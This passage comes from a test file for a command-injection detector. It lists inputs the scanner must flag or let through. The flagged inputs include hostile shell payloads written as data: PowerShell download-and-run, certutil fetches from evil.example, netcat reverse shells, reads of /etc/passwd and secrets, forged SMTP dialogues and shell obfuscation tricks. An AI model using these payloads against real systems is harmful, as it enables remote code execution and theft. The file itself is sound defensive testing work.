    'powershell Get-ChildItem -Recurse', 'powershell Get-Content $env:USERPROFILE\\x', 'powershell Get-ChildItem -Path C:\\Users',
    'powershell Remove-Item -Recurse -Force x', 'powershell Get-Content -Path $env:USERPROFILE\\x', 'powershell "Get-ChildItem C:\\"',
    'powershell "Get-Process -Name x"', 'pwsh Get-ChildItem -Recurse C:\\',
    // iex opening the value likewise, given a '(' or quote holding a command (Elixir's prompt iex(1)> holds a number)
    'IEX (New-Object Net.WebClient).DownloadString(1)', 'iex(New-Object Net.WebClient).DownloadString(1)', "IEX 'whoami'"])('%s is flagged', (input) => {
    expect(ruleIds(d.scan(input, { context: 'query' }))).toContain('cmdi.command-with-args');
    expectSameWhenSplit(d, [input], 'query');
  });
  // titles, searches and prose about PowerShell: a version, a parenthesis or quote with no command in it, a cmdlet alone or
  // with words after it (a search for its documentation)
  it.each(['powershell tutorial', 'PowerShell vs bash', 'powershell Get-Help', 'PowerShell (Windows) guide', 'PowerShell "for beginners"',
    'PowerShell & Python', 'PowerShell (Get started)', 'powershell [beginner]', 'PowerShell 7.4', 'powershell Get-Process',
    'powershell get-childitem recurse', 'powershell "x"', 'IEX (Elixir shell)', 'iex tutorial', 'iex(1)',
    // a plain word after the cmdlet's option, the quote closing right after the cmdlet: a search or a title (rt-ex 06)
    'powershell Get-ChildItem -Recurse example', 'PowerShell "Get-Process" command explained', 'powershell "Get-Process"',
    'powershell Get-ChildItem -Recurse example?'])('%s stays clean', (input) => {
    expect(d.scan(input, { context: 'query' }).threats.filter((t) => t.category === 'cmdi')).toEqual([]);
    expectSameWhenSplit(d, [input], 'query');
  });
});

describe('cmdi session 18: an option opening the value whose value a program runs, given it after a space', () => {
  // getopt_long takes a required argument after a space as after '=': --upload-pack 'touch x', --to-command id, --rsh sh,
  // --exec id, --use-compress-program /tmp/x.sh are the same argument injection as their '=' forms
  it.each([["--upload-pack 'touch /tmp/x'", 'cmdi.exec-call'], ['--to-command id', 'cmdi.exec-call'], ['--rsh sh', 'cmdi.exec-call'],
    ['--exec id', 'cmdi.exec-call'], ['--to-command $x', 'cmdi.exec-call'], ['--to-command  id', 'cmdi.exec-call'],
    ['--use-compress-program /tmp/x.sh', 'cmdi.argument-injection'], ['--exec ./run', 'cmdi.argument-injection']])('%s is flagged', (input, rule) => {
    expect(ruleIds(d.scan(input, { context: 'query' }))).toContain(rule);
    expectSameWhenSplit(d, [input], 'query');
  });
  // a value given no command word or path, configure's --prefix, the option not opening the value, a flag with no value
  it.each(['--exec jest', '--use-compress-program pigz', '--prefix /usr/local', '--script vuln', 'a --to-command id', 'git rebase --exec make main',
    '--help', '--command line tools'])('%s stays clean', (input) => {
    expect(d.scan(input, { context: 'query' }).threats.filter((t) => t.category === 'cmdi')).toEqual([]);
    expectSameWhenSplit(d, [input], 'query');
  });
});

describe("cmdi session 19: '<(' and '>(' wait for what follows (an emoticon's ^ starts no command)", () => {
  // <(^.^)> and <( ^_^ )> are faces; in bash '^.^' is a command no system has, so the process substitution runs nothing
  it.each(['<(^.^)>', 'thanks <(^.^)> see you', '<( ^.^ )>', '<(^_^<)', 'ok >(^o^)<'])('%s is no redirection', (input) => {
    expect(ruleIds(d.scan(input, { context: 'query' }))).not.toContain('cmdi.redirection');
  });
  // anything else after the '(' may name or build a command: a word, a quote, $, a backtick, a backslash, a path, a digit
  // (7z), a glob (?d expands against the working directory), and a '<(' with nothing after it still counts (as before)
  it.each(['x <(id)', '<( id)', 'cat <("id")', "a<('i'd)", 'a<($F)', 'b<(`id`)', 'c<(\\id)', 'd<(/bin/id)', 'e<(7z x a)',
    'f<(?d)', 'g >(sh)', 'h<(', 'i<( '])('%s is still a redirection', (input) => {
    expect(ruleIds(d.scan(input, { context: 'query' }))).toContain('cmdi.redirection');
  });
  it('reads the same split anywhere', () => {
    expectSameWhenSplit(d, ['thanks <( ^.^ )> see', 'x <( id)', 'a <(^ id)']);
  });
});

describe("cmdi session 19: a '~' glued to a command word continues the word (z~Q, id~): no command of that name runs", () => {
  // sh expands '~' only at a word's start; cmd.exe and PowerShell do not split a word at it either: "z~QQ" is one word
  it.each(['z~QQYCpikqD}uqxo)]', ']/Z~PD`z3/r0G5', 'Z~>Obqx', '$N~U$V7~1}', 'w~x'])('%s is no command', (input) => {
    expect(ruleIds(d.scan(input, { context: 'query' })).filter((r) => r.startsWith('cmdi.'))).toEqual([]);
  });
  // a '~' after a space is a home path given to the command, and the command glued before a separator still runs
  it.each([['x; uname ~', 'cmdi.chained-command'], ['x|id ~', 'cmdi.chained-command'], ['a;id;~', 'cmdi.chained-command'],
    ['ls ~root', 'cmdi.command-with-args'], ['q;w ~x', 'cmdi.chained-command']] as const)('%s is still %s', (input, rule) => {
    expect(ruleIds(d.scan(input, { context: 'query' }))).toContain(rule);
  });
  it('reads the same split anywhere', () => {
    expectSameWhenSplit(d, ['z~QQYCpikqD}uqxo)]', 'x; uname ~', 'Z~>Obqx']);
  });
});

describe('cmdi session 19: a command after a separator given a home path (~/x) runs on it, like ./x', () => {
  it.each(['127.0.0.1; cat ~/flag.txt', 'x; cat ~/notes', '1|cat ~/secret', ';ls ~/', '; nc ~/a', '1;cp ~/x /tmp'])('%s is a chained command', (input) => {
    expect(ruleIds(d.scan(input, { context: 'query' }))).toContain('cmdi.chained-command');
    expectSameWhenSplit(d, [input]);
  });
  // a weak word opening the value before a home path is prose or a doc line ("Open ~/Downloads"), and so is ~/ in text
  it.each(['Open ~/Downloads and find the file', 'Find ~/Documents/report.pdf', 'saved to ~/Desktop', 'about 5 ~/ month'])('%s stays clean', (input) => {
    expect(ruleIds(d.scan(input, { context: 'query' })).filter((r) => r.startsWith('cmdi.'))).toEqual([]);
  });
});

describe('cmdi session 19: a short name opening the value before a version (N.N) names a release, an address needs two dots', () => {
  it.each(['gcc 12.2', 'ver 2.1; build 33', 'gcc 12.2; clang 15', 'npm 9.6 and node', 'GDB 13.1 release notes'])('%s is no command line', (input) => {
    expect(ruleIds(d.scan(input, { context: 'query' })).filter((r) => r.startsWith('cmdi.'))).toEqual([]);
    expectSameWhenSplit(d, [input]);
  });
  it.each(['nc 10.0.0.1 4444', 'nc 10.0.0.1', 'ssh 10.1.2.3', 'x;nc 10.2 80', 'x; ping 127.1'])('%s is still a command line', (input) => {
    expect(ruleIds(d.scan(input, { context: 'query' })).some((r) => r === 'cmdi.command-with-args' || r === 'cmdi.chained-command')).toBe(true);
    expectSameWhenSplit(d, [input]);
  });
});

describe('cmdi session 19: a literal backslash-n (the two characters) before a command is a newline, as payload lists write it', () => {
  // FuzzDB and commix write the line break as \n for an application that unescapes it (echo -e, printf, a JSON layer)
  it.each(['\\nuname -a', 'q=1\\nwhoami', '\\r\\nps aux', '\\n /usr/bin/id', 'abc\\nsleep 5', '\\n$(uname)', '\\nkill -9 1',
    '127.0.0.1\\nifconfig', '\\ncat /etc/hosts', '\\nDate\\nTime\\nid', 'x\\n`id`'])('%s is a command after a newline', (input) => {
    expect(ruleIds(d.scan(input, { context: 'query' })).some((r) => r === 'cmdi.chained-command' || r === 'cmdi.command-substitution')).toBe(true);
    expectSameWhenSplit(d, [input]);
  });
  // Windows paths (a backslash after ':' '%' or another backslash), format strings and regexes, and text lines
  it.each(['C:\\new\\nc.txt', 'D:\\nginx\\conf', 'C:\\Users\\nid\\Desktop', '%USERPROFILE%\\netstat.log', 'E:\\tools\\ncat.exe',
    'C:\\Program Files\\nodejs\\node.exe', 'printf("a\\nid=%d")', '"line1\\nline2"', 'printf("%s\\nid")', 'Hello\\nWorld', '\\\\nid',
    '[\\r\\n]+id', 'split(/\\r?\\n/)', 'text.replace(/\\n/g, " ")', 'notes.txt\\nid', 'Name\\nDate\\nTime', 'Total\\nTime', 'x\\rename',
    'logs\\ncat.txt', 'Dear team,\\nkill the noise please', `\\n${'i'.repeat(5000)}d`])('%s stays clean', (input) => {
    expect(ruleIds(d.scan(input, { context: 'query' })).filter((r) => r.startsWith('cmdi.'))).toEqual([]);
    expectSameWhenSplit(d, [input]);
  });
});

describe('cmdi session 19: ip given one of its objects after a separator (;ip addr, |ip route) is the command', () => {
  it.each([';ip neigh', 'x|ip link show', 'a&&ip rule list', '%0aip route', 'x; ip r get 1.1.1.1', '1;ip a', 'z| ip tunnel',
    'q;ip addr > /tmp/o', '9;ip a s'])('%s is a chained command', (input) => {
    expect(ruleIds(d.scan(input, { context: 'query' }))).toContain('cmdi.chained-command');
    expectSameWhenSplit(d, [input]);
  });
  // "ip" is a weak word: a table header or prose after ';' '&' names the address, a range, or writes English after the object
  it.each(['Server; IP address', '; IP address', '& IP range', 'Hosts; IP a lot', '; IP route table', '1; IP link is down',
    'Name | IP | Port', '; IP a-b'])('%s stays clean', (input) => {
    expect(ruleIds(d.scan(input, { context: 'query' })).filter((r) => r.startsWith('cmdi.'))).toEqual([]);
    expectSameWhenSplit(d, [input]);
  });
});

describe('cmdi session 19 (rt22): a release number N.N opening the value exempts only a line with nothing command-like after it', () => {
  // N.N is an address too for inet_aton (10.1 = 10.0.0.1, 127.1 = 127.0.0.1): an option, a number, a command word, a
  // path, a redirection or name=value after it make the line a command again, as before 573e684
  it.each(['rm 1.1 -rf *', 'rm 1.1 -rf ~', 'rm 1.1 --no-preserve-root /', 'nc 10.1 4444 >x.php', 'nc 127.1 4444 <x',
    'nc 10.1 4444;x', 'ssh 10.1 id', 'ssh 10.1 whoami', 'gcc 12.2 -o x x.c', 'dd 1.1 of=/dev/sda', 'cat 1.1 /etc/passwd',
    'rm 1.1 *', 'nc 127.1>x', 'nc 10.1 $P', 'nc 10.1 -e sh', 'cp 1.1 ~/x'])('%s is a command line', (input) => {
    expect(ruleIds(d.scan(input, { context: 'query' }))).toContain('cmdi.command-with-args');
    expectSameWhenSplit(d, [input]);
  });
  it.each(['gcc 12.2 released', 'npm 9.6 is out', 'GDB 13.1 (2023)', 'ver 2.1, build 33', 'gcc 12.2 and later',
    'Vim 9.1 - what is new', 'gcc 12.2 | clang 15', 'gcc 12.2 on Ubuntu'])('%s is no command line', (input) => {
    expect(ruleIds(d.scan(input, { context: 'query' })).filter((r) => r.startsWith('cmdi.'))).toEqual([]);
    expectSameWhenSplit(d, [input]);
  });
});

describe("cmdi session 19 (rt22): a command word before '~' and digits is its Windows 8.3 short name (PYTHON~1): still the command", () => {
  it.each(['1&python~1 -c print(1)', 'a;python~1 -c "import os"', 'a;PYTHON~1.EXE -c "import os"', 'x|python~2 -c print(1)',
    'a;python~12 -c print(1)'])('%s is a chained command', (input) => {
    expect(ruleIds(d.scan(input, { context: 'query' }))).toContain('cmdi.chained-command');
    expectSameWhenSplit(d, [input]);
  });
  // anything else glued after the '~' keeps it one word (passwords: z~QQ, $N~U, V7~1}), as c555c44 made it
  it.each(['z~QQYCpikqD}uqxo)]', 'Z~>Obqx', '$N~U$V7~1}', 'w~x', 'a;python~x -c print(1)', 'a;id~1x'])('%s is no command', (input) => {
    expect(ruleIds(d.scan(input, { context: 'query' })).filter((r) => r.startsWith('cmdi.'))).toEqual([]);
    expectSameWhenSplit(d, [input]);
  });
});

// Session 20 (red team rtc23): shell grammar that leaves the command position open after something that is not the
// command word: the pipeline negation '!', the reserved words, command/builtin, an assignment or a redirection before
// the command, and the word pieces ${x:-w} $(:) backslash-newline that the shell removes. Each attack in three contexts.
const CTX = ['query', 'form', 'json'] as const;
function expectCmdi(input: string): void {
  for (const context of CTX) {
    const r = d.scan(input, { context });
    expect(r.blocked, `${context}: ${JSON.stringify(input)}`).toBe(true);
    expect(r.threats.some((t) => t.category === 'cmdi'), `${context}: ${JSON.stringify(input)}`).toBe(true);
  }
  expectSameWhenSplit(d, [input]);
}
function expectNoCmdi(input: string): void {
  for (const context of CTX) {
    expect(ruleIds(d.scan(input, { context })).filter((r) => r.startsWith('cmdi.')), `${context}: ${JSON.stringify(input)}`).toEqual([]);
  }
  expectSameWhenSplit(d, [input]);
}

describe("cmdi session 20 (rtc23): '! ' (pipeline negation) keeps the command position a separator opened", () => {
  it.each(['x;! id', 'x&&! id', 'x\n! id', "x';! id;'", 'x;! cat secret.txt', 'x|! whoami', 'x; ! ! uname -a'])('%s is a command', expectCmdi);
  // a '!' glued to the word after it is no negation (sh runs a command named "!id"); one after a word is prose
  it.each(['Great job! Date night', 'a;!b', 'Hello;!important', 'Wow!! Cat food', 'x;!date', 'Yes; ! no', 'F!&l%#&!$Un350Gv'])('%s stays clean', expectNoCmdi);
});

describe('cmdi session 20 (rtc23): reserved words after a separator (then do else elif while until, if before a command) keep the command position', () => {
  it.each(['x;if id;then :;fi', 'x;while id;do break;done', 'x;until id;do :;done', 'x;for i in 1;do id;done',
    'x&&if id;then :;fi', 'x\nif cat secret.txt;then :;fi', 'x;if :;then id;fi', 'x;if x;then :;else cat secret.txt;fi',
    'x|while whoami;do :;done', 'x;case x in x) id;;esac', 'x;case x in y) :;;*) cat secret.txt;;esac'])('%s is a command', expectCmdi);
  // (a ')' opens a position only in a case read after a separator)
  it.each(['In case (a) fails, see (b) date', 'Just in case) cat food', 'Case 1) cat food'])('%s stays clean', expectNoCmdi);
  // then else elif do with no if while until for before them are a syntax error in sh (nothing runs): prose's "; then"
  it.each(['x;then id', 'x;else cat secret.txt', 'Sleep well; then touch base', 'x; do cat food', 'If you can', 'x; then we go', 'Do it; then relax', 'While you wait', 'Then; do it', 'a; if so, then yes',
    'Done; else nothing'])('%s stays clean', expectNoCmdi);
});

describe('cmdi session 20 (rtc23): command and builtin after a separator run the command after them', () => {
  it.each(['x;command id', 'x;\\command id', 'x;command cat secret.txt', 'x;builtin eval id', 'x|command whoami'])('%s is a command', expectCmdi);
  it.each(['Command line', 'Shift; Command', 'Press Ctrl; command palette opens', 'Command & Conquer', 'x; builtin types', 'In bash, $(command) is preferred'])('%s stays clean', expectNoCmdi);
});

describe('cmdi session 20 (rtc23): name=value before a command word (an environment assignment) keeps the command position', () => {
  it.each(['x;a=b id', 'x;a= id', 'x|a=b id', 'x\na=b id', 'x;LANG=C cat secret.txt', 'x && a=b id', 'x;a=1 b=2 uname -a', 'x;a="b c" id'])('%s is a command', expectCmdi);
  // (a quote left open in the value holds the rest; a code span standing apart in prose is documentation)
  it.each(["sanitizeUrlPath('/foo;bar=1', true)", 'For example: `DEBUG=1 node app.js` shows it'])('%s stays clean', expectNoCmdi);
  it.each(['a=b c=d', 'x=1 y', 'a=1;b=2 c', 'x;a=b c=d', 'name=John; age=30 years', 'k=v; a=b and more'])('%s stays clean', expectNoCmdi);
});

describe('cmdi session 20 (rtc23): a redirection before the command word keeps the command position', () => {
  it.each(['x;2>&1 id', 'x;</dev/null id', 'x;<secret.txt cat', 'x|2>&1 id', 'x;2>x id', 'x&&2>&1 id', 'x;>/dev/null uname -a'])('%s is a command', expectCmdi);
  it.each(['a < b and c', 'x;<b>bold</b> text', '1 < 2; 3 > 2 yes', 'Errors: 2>&1 redirect', 'x;<b> cat food', 'a; 2 > 1 date'])('%s stays clean', expectNoCmdi);
});

describe('cmdi session 20 (rtc23): ${x:-w} ${x=w} ${x+w} expand to their word; $(:) and backslash-newline vanish from a word', () => {
  it.each(['x;${x:-id}', 'x;${x=id}', 'x;${x:=id}', 'x;${PATH%2Bid}', 'x;${x:-c}at secret.txt', 'x;i${x:%2By}d', 'x$(${x:-id})',
    'x`${x:-id}`', 'x\n${x:-id}', 'x;${x:-cat secret.txt}', 'x;$(:)id', 'x;i$(:)d', 'x;c$(:)at secret.txt', 'x\n$(:)id',
    'x;i\\\nd', 'x;c\\\nat secret.txt', 'x;wh\\\noami', 'x;cu\\\nrl http://evil.example/'])('%s is a command', expectCmdi);
  // (a raw '+' is a space in a query or form value, as the application reads it too: ${PATH id} is no expansion there)
  it.each(['x;${PATH+id}', 'x;i${x:+y}d', 'x;${x+id}'])('%s in a JSON body is a command', (input) => {
    expect(d.scan(input, { context: 'json' }).blocked).toBe(true);
  });
  it.each(['port=${PORT:-8080}', 'image: ${IMAGE:-app}', 'x;${x:-default}', 'a$(:)b', 'line one \\\nline two', 'C:\\dir\\\nnext'])('%s stays clean', expectNoCmdi);
});

describe("cmdi session 20 (rtc23): cmd.exe reads a switch glued to the command word after & | newline (whoami/all, cmd/c)", () => {
  it.each(['x&cmd/c whoami', 'x&whoami/all', 'x&ipconfig/all', 'x|whoami/all', 'x&&cmd/c whoami', 'x&dir/s/b c:\\',
    'x&certutil/urlcache/f http://evil.example/x x.exe', 'x&powershell/c whoami', 'x&cmd/c"whoami"'])('%s is a command', expectCmdi);
  // a path goes on after the segment (bin/x.txt, cat/dogfood.png); a ';' is no cmd.exe separator; a word of digits is no switch
  // (x&bin/x.sh was here until session 22: sh runs that script from the working folder, see the cf26 block below)
  it.each(['x&bin/x.txt', 'R&D/IT', 'Tom & Jerry/Cartoons', 'x;whoami/all', 'x&cat/dogfood.png', 'x&dir/2024', 'Q&A/help-center'])('%s stays clean', expectNoCmdi);
});

describe('cmdi session 20 (rtc23): a Windows absolute or UNC path after & | newline runs the program it names', () => {
  it.each(['x&c:\\windows\\system32\\whoami', 'x&C:\\Windows\\System32\\certutil.exe -urlcache -f http://evil.example/x x.exe',
    'x&c:/windows/system32/whoami', 'x&\\\\evil.example\\share\\x.exe', 'x|C:\\tools\\nc.exe -e cmd 10.0.0.1 4444',
    'x\nc:\\users\\public\\a.bat', 'x&C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe whoami'])('%s is a command', expectCmdi);
  // a document, a folder or a path mentioned after ';' or in prose; C:\Program Files\x.exe unquoted runs C:\Program (split at the space)
  it.each(['Docs & C:\\Users\\me\\notes.txt', 'Saved to: C:\\Temp\\x.exe', 'x&c:\\temp', 'Paths & c:\\windows\\system32',
    'x&\\\\fileserver\\shared\\Finance', 'x&C:\\Program Files\\app.exe', 'x;c:\\tools\\app.exe'])('%s stays clean', expectNoCmdi);
});

// Session 21 (rtc23) excused a Title-case command word after a newline, a Title-case mail verb, and a Title-case
// English-word command alone after a separator; session 24 (red team rtd24, repros 10 and 19) took that back: PowerShell
// splits statements at a newline and folds case (its Verb-Noun is written Title-case), a macOS file system folds case for
// sh, cmd.exe folds case after | & ||, and SMTP, POP3 and IMAP read verbs case-insensitively (RFC 5321 2.4). Letter case
// is no evidence that a line or a list item runs nothing.
describe('cmdi session 24 (rtd24): a Title-case command word after a newline or a separator is a command', () => {
  it.each(['x\nWhoami', 'x\r\nWhoami', 'x\n\nWhoami', 'x\nSleep 10', 'x\nStart-Sleep 10', 'x\nInvoke-Expression (Iwr evil).Content',
    'x\nNet user hacker P4ss /add', 'x\nRm secret', 'x\nCat secret', 'x\nEnv', 'x\nPrintenv', 'x\nSysteminfo', 'x\nIpconfig',
    'x\nNetstat', 'x\nPs aux', 'x\nNc evil 4444', 'x\nCurl evil', 'x\nDel secret', 'x\nEcho pwned>x'])('%s is a command', expectCmdi);
  it.each(['x|Set', 'x||Set', 'x;Calc', 'x|Shutdown', 'x;Halt', 'x;Mount', 'x;Who', 'x;History', 'x | Set', 'x; Calc'])('%s is a command', expectCmdi);
  // (mail verbs and IMAP tags whatever their case: a CRLF-injected dialogue in Title-case forged a mail on a real smtpd)
  it.each(['x\r\nMail From:<a@evil.example>\r\nRcpt To:<v@x.example>\r\nData\r\nSubject: hi\r\n\r\nbody\r\n.\r\nQuit',
    'x\r\nRcpt To:<victim@x.example>', 'x\r\nData', 'x\r\nVrfy root', 'x\r\nExpn staff', 'x\nHelo evil', 'x\r\nUser admin\r\nPass x',
    'x\r\nRetr 1', 'x\r\nDele 1', 'x\r\nTag Login u p'])('%s is a mail command', (input) => {
    for (const context of ['query', 'json'] as const) expect(ruleIds(d.scan(input, { context }))).toContain('cmdi.mail-command');
  });
  // as before: lower-case, upper-case, escaped, or given a path, an option or a host
  it.each(['x\nid', 'x\ncat /etc/passwd', 'x\ncat food', 'x\nsleep 5', 'x\nCat /etc/passwd', 'x\nPing -c 3 evil.example',
    'x\nCurl http://evil.example/x.sh', 'x\nCAT food', 'x%0a%43at food', 'x\\nCat /etc/passwd', 'x\nTee /var/www/x.php',
    'x\nPowershell -c whoami', 'x\r\nDATA\r\n', 'x\r\nMAIL FROM:<a@evil.example>', 'x\r\nTOP 1 10\r\n', 'x\nNslookup evil.example',
    'x\nCat secret.txt', 'x\nWget evil.example/x -O /tmp/x', 'x\nHost evil.example'])('%s is a command', expectCmdi);
  // still clean: what no Title-case exemption decided (a word that is no command, or one that needs an argument it lacks)
  it.each(['Tee; Shirts; Hats', 'Docs | Source', 'File | Open', 'View | Source'])('%s stays clean', expectNoCmdi);
});

describe('cmdi session 21: the raw case a word is judged by survives chunking (rawKeep keeps the 32 raw bytes before a chunk)', () => {
  // (the last one past the scanner's 3,584-byte chunk: the word is lexed in the second chunk)
  it.each(['Tee; Shirts; Hats', 'Hi,\nCut 2 pieces of 40cm please', 'About Us | History', 'Menu\nWait list open', 'x\nCat /etc/passwd', 'x\nCat secret.txt',
    `${'y'.repeat(3590)}\nRoute 9`])('value %#: byte-at-a-time and 3-byte pushes give the whole verdict', (input) => {
    const whole = ruleIds(d.scan(input, { context: 'form' }));
    for (const step of [1, 3]) {
      const s = d.createStream({ context: 'form' });
      for (let i = 0; i < input.length; i += step) s.push(input.slice(i, i + step));
      expect(ruleIds(s.finish())).toEqual(whole);
    }
  });
});

// Session 24: POP3's TOP takes a message number first (RFC 1939) and no other mail protocol has TOP, so a TOP line whose
// argument is no number is one every server rejects, in any case.
describe('cmdi session 24: TOP without a message number is no protocol line', () => {
  it.each(['My top 3:\nTop Gun\nJaws', 'My top 3:\ntop Gun', 'Ranking\r\nTOP picks\r\n', 'x\r\nTop of the list'])('%s stays clean', expectNoCmdi);
  it.each(['x\r\nTOP 1 10\r\n', 'x\r\nTop 1 10', 'x\r\nTOP 1', 'x\r\nTOP\r\n', 'x\r\nLIST 1', 'x\r\nUSER admin\r\nPASS x'])('%s is a mail command', (input) => {
    expect(ruleIds(d.scan(input, { context: 'json' }))).toContain('cmdi.mail-command');
  });
});

// Session 24 (rtd24, after taking back the Title-case menus): what the command does alone decides, in any case. A pager
// whose output is no terminal passes its input through, as cat does; cmd.exe's format with no volume does nothing.
describe('cmdi session 24: more and less end a pipe as cat does; format alone does nothing', () => {
  it.each(['Less | More', 'less | more', 'x | more', 'x|less', 'Paste | Format', 'x | format'])('%s stays clean', expectNoCmdi);
  it.each(['x|less /etc/passwd', 'x|more /etc/passwd', 'x|less -R', 'more | sh', 'x;less|sh', 'x;more', 'x|format c:', 'x;format c: /q'])('%s is a command', expectCmdi);
});

describe('cmdi session 21 (rtc23): source and open do nothing without an operand', () => {
  // (alone, source and open name nothing to read or open: lower-case too)
  it.each(['docs | source', 'file | open', 'x;source', 'x | open'])('%s stays clean', expectNoCmdi);
  // given an argument, lower-case, or a strong command a case-folding shell runs alone (x|Whoami), it still counts
  it.each(['x;Cat /etc/passwd', 'x|Cat /etc/passwd', 'x|id', 'x;ls -la', 'x | date', 'x;date', 'x|Whoami', 'x;Hostname',
    'x; Date > /tmp/x', 'x|Sort -r', 'x;Find / -name x', 'x|source /tmp/x.sh', 'x;open /etc/passwd', ';history', ';top', 'tee; id', 'x | history'])('%s is a command', expectCmdi);
});

describe('cmdi session 21 (rtc23): $(<file) substitutes the file it reads (bash), as $(cat file) does', () => {
  it.each(['$(<secret.txt)', '$(< secret.txt)', '"$(<secret.txt)"', 'x;$(<secret.txt)', '$(<.env)', '$(<app.py)', '$(<.env).evil.example',
    '$(<~/x)', '$(<$HOME/x)', 'x;$(</tmp/x)', 'x $( < /etc/passwd )', "$(<'secret.txt')"])('%s is a command', expectCmdi);
  // (an empty one runs nothing; a '<' after a command word is its input, judged with the command; markup and jQuery's $('<div>'))
  it.each(['$(<)', "$('<div>')", '$("<b>x</b>")', 'a $ (<b>) c', 'x $(x) < y'])('%s stays clean', expectNoCmdi);
  // session 24 (rtd24 repro 09): GNU make's $(<D) $(<F), written as make writes them, name the first prerequisite's parts;
  // a one-letter file holds nothing a probe is after. Any other spelling or anything more still reads a file.
  it.each(["* The automatic variables `$(@D)', `$(<D)', `$(?D)'", '$(<D)', '$(<F)', 'the folder $(<D) of it', 'x;$(<D)'])('%s stays clean', expectNoCmdi);
  it.each(['$(<d)', '$(<x)', '$(<Db)', '$(<D/x)', '$(<D.txt)', '$(<D2)', '$(<D )', '$( <D)', '$(< D)', '$(<%44)', 'of $(<file).'])('%s is a command', expectCmdi);
  // session 21 (rtd24 repro 13): the backtick form reads the file too; a tagged template's markup (a name then '>', ' ', '-') stays
  // (and so does an unclosed one, which sh rejects: a generated password)
  it.each(['x`<secret.txt`', 'x`< secret.txt`', 'x`<.env`', 'x`<~/x`', 'x`<secret`', 'x`<uploads/a`', "x`<'a.txt'`", 'x`<$HOME/x`'])('%s is a command', expectCmdi);
  it.each(['html`<div>`', 'html`</div>`', 'html`<my-el></my-el>`', 'a`<b>` c', 'html`<p class=x>`', 'aF0J`<G.mvl8NI/e'])('%s stays clean', expectNoCmdi);
});

describe('cmdi session 21 (rtc23): trap runs its first operand, quoted or not, at the signals named after it', () => {
  it.each(['x;trap id EXIT', 'x;trap id 0', 'x; trap id INT', 'x|trap whoami SIGTERM', 'x\ntrap id ERR', 'trap id EXIT'])('%s is a command', expectCmdi);
  // (a word that names no signal after it, or trap out of command position, is prose)
  it.each(['x;trap id cards', 'Tourist trap; Avoid it', 'a trap date 0', 'Mouse trap, cat 5', 'x;trap door 0'])('%s stays clean', expectNoCmdi);
  // session 21 (rtd24 repro 13): "--" ends trap's options and leaves the same operands
  it.each(['x;trap -- id EXIT', 'x;trap -- "id" EXIT', 'x|trap -- whoami 0'])('%s is a command', expectCmdi);
  it.each(['x;trap -- id cards', 'Tourist trap -- Avoid it', 'x;trap -p', 'x;trap - EXIT'])('%s stays clean', expectNoCmdi);
});

describe('cmdi session 21 (rtc23): a file run by a relative path (the dot builtin, ./ .\\, cmd.exe after & | newline)', () => {
  it.each(['x;. ./cmdfile', 'x;. cmdfile', 'x;. uploads/a.png', 'x;. .env', 'x|. ../x', 'x;. ~/x', 'x&.\\a.bat', 'x&./run.sh', 'x|.\\a.bat',
    'x&x.bat', 'x&uploads\\a.exe', 'x & setup.exe /S', 'x|a.exe', 'x\nuploads\\a.exe', 'x&tools\\nc.exe -e cmd 10.0.0.1 4444', 'x&a.cmd&y'])('%s is a command', expectCmdi);
  // a domain after '&' (.com is a program's extension too), a document, a folder, prose after ". " on a new line
  it.each(['Barnes&Noble.com', 'AT&T.com', 'H&M.com/shop', 'x&Readme.txt', 'R&D\\Docs', 'Tom & Jerry', 'x|foo.bar', 'Hello\n. Next item',
    'Q&A. Then', 'x&. ./y', 'Wait... then; done', 'End.;. '])('%s stays clean', expectNoCmdi);
});

// session 21 (rtd24 repro 13): the dot builtin after '&&' (sh's list, spaced or glued), with a quoted operand (the shell
// drops the quotes), and after a newline with a script's extension (". name" alone there stays a line of text)
describe('cmdi session 21 (rtd24): the dot builtin after &&, quoted, or on a new line with a script name', () => {
  it.each(['x&&. cmd.sh', 'x && . cmd.sh', "x;. 'cmd.sh'", 'x;. "cmd.sh"', 'x|. "uploads/a.png"', 'x\n. run.sh', 'x\n. a.ps1',
    "x\n. 'run.sh'", 'x\n. id'])('%s is a command', expectCmdi);
  it.each(['Q&A. Then', 'a& . b', 'Tom & Jerry. Then', 'Hello\n. Next item', 'Hello\n. Next.item', 'Notes\n. see a.txt',
    'x&. ./y'])('%s stays clean', expectNoCmdi);
});

// Session 24 (red team rtd24 repro 01): a program's bare name opening a line after a newline runs nowhere: cmd.exe ends its
// command line at the newline, PowerShell runs no program from the working folder by a bare name, sh finds no setup.exe
// on the PATH. A path with a folder in it (PowerShell runs uploads\a.exe) and a program on the PATH still count.
describe('cmdi session 24 (rtd24): a bare program name opening a line', () => {
  it.each(['Hi,\nsetup.exe crashes on start', 'Steps:\ninstall.bat fails with error 5', "Hello\nupdate.exe won't run",
    'Hi team,\nSetup.exe hangs at 50%', 'The file\nsetup.exe\nis corrupted', 'Attached:\nreport.exe', 'def f():\n    self.cmd = cmd',
    'x\nself.cmd = cmd', 'x\r\na.exe'])('%s stays clean', expectNoCmdi);
  it.each(['x\nuploads\\a.exe', 'x\na\\b.exe', 'x\nsub.dir\\a.exe', 'x\ncalc.exe', 'x\ncertutil.exe -urlcache -f http://e/x x.exe',
    'x\nc:\\temp\\a.exe', 'x\n.\\a.bat', 'x|a.exe', 'x|setup.exe', 'x&x.bat'])('%s is a command', expectCmdi);
});

// session 21 (rtd24): a relative path with a '/' after '|' or a newline runs from the working folder in sh (a script's or a
// program's extension on its last segment); a document or a path without an extension is no program
describe('cmdi session 21 (rtd24): a relative path with a slash after | or a newline', () => {
  it.each(['x|uploads/run.sh', 'x\nuploads/a.sh', 'x|uploads/a.exe', 'x|tools/b/c.bat -q'])('%s is a command', expectCmdi);
  it.each(['x|docs/readme.md', 'x|a/b', 'Hi\nsee docs/setup.sh', 'and/or | yes/no', 'x|docs/a.txt'])('%s stays clean', expectNoCmdi);
});

// session 22 (cf26): the same relative path after '&' or '&&' (sh runs x&uploads/run.sh's second command from the working
// folder as it does after ';'), and a one-letter first folder (x;b/c.sh); a document, a folder or a domain stays clean
describe('cmdi session 22 (cf26): a relative path with a slash after & && or a one-letter folder', () => {
  it.each(['x&&uploads/run.sh', 'x&uploads/run.sh', 'x && uploads/run.sh', 'x&uploads/a.ps1', 'a&&b/c.sh', 'x;b/c.sh',
    'x&b/c.exe', 'x&bin/x.sh'])('%s is a command', expectCmdi);
  it.each(['R&D/notes.txt', 'Q&A/faq.md', 'H&M.com/shop', 'R&D/docs', 'x&a/b', 'A&B/C.txt', 'a;b/c.txt', 'x;c:\\windows\\a.exe',
    'see docs/readme.md', 'x;a/b'])('%s stays clean', expectNoCmdi);
});

